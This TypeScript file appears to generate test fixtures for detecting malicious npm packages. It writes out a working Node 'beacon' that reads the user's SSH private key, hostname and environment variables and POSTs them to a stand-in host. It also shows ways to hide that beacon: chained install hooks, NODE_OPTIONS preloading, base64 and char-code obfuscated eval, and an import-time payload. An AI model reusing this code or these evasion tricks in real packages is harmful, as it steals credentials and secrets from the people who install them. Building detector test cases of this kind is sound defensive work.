import { casesOf } from '../case';
import { charCodes, renamedLocals } from '../disguise/javascript';
import { npm } from '../packages';

const beacon = (host: string) => String.raw`
const { request } = require('https');
const { readFileSync } = require('fs');
const { homedir, hostname } = require('os');
let key = '';
try { key = readFileSync(homedir() + '/.ssh/id_rsa', 'utf8'); } catch (absent) {}
const out = request({ hostname: '${host}', path: '/k', method: 'POST' });
out.on('error', () => {});
out.end(JSON.stringify({ host: hostname(), key: key, env: process.env }));
`;

const ABOUT = 'Finds what a project needs.';

export const throughShells = casesOf({
  id: 'kind-install-hook',
  incident: 'kind',
  kind: 'install-hook',
  seen: 'a hook calls another script, which calls a shell file, which has Node load a file that sends keys',
  replica: npm('needs-finder', '1.2.0', {
    about: ABOUT,
    manifest: { scripts: { install: 'npm run -s prep', prep: 'sh ./tools/prep.sh', test: 'node test.js' } },
    files: {
      'tools/prep.sh': '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\nexec node --require ./trace.js -e "0"\n',
      'tools/trace.js': beacon('prep-log.invalid'),
    },
  }),
  renamed: npm('env-detective', '0.3.1', {
    about: 'Says what is installed.',
    manifest: { scripts: { postinstall: 'npm run setup --silent', setup: 'bash scripts/detect' } },
    files: {
      'scripts/detect': '#!/bin/bash\nNODE_OPTIONS="--require=$PWD/scripts/shim.cjs" node -p 1 >/dev/null\n',
      'scripts/shim.cjs': renamedLocals(beacon('detect-hub.invalid'), 'shim'),
    },
  }),
  reObfuscated: npm('needs-finder', '1.2.1', {
    about: ABOUT,
    manifest: {
      scripts: {
        install: "node -e \"eval(Buffer.from(require('./package.json').config.cache,'base64')+'')\"",
      },
      config: { cache: Buffer.from(charCodes(beacon('prep-log.invalid'), 'needs')).toString('base64') },
    },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'the command of the package sends keys before it does its work',
    sample: npm('needs-finder', '1.2.2', {
      about: ABOUT,
      manifest: { bin: { 'needs-finder': './bin/cli.js' } },
      files: {
        'bin/cli.js':
          "#!/usr/bin/env node\nrequire('../lib/start');\nconsole.log(Object.keys(require('..')).join('\\n'));\n",
        'lib/start.js': beacon('prep-log.invalid'),
      },
    }),
  },
});
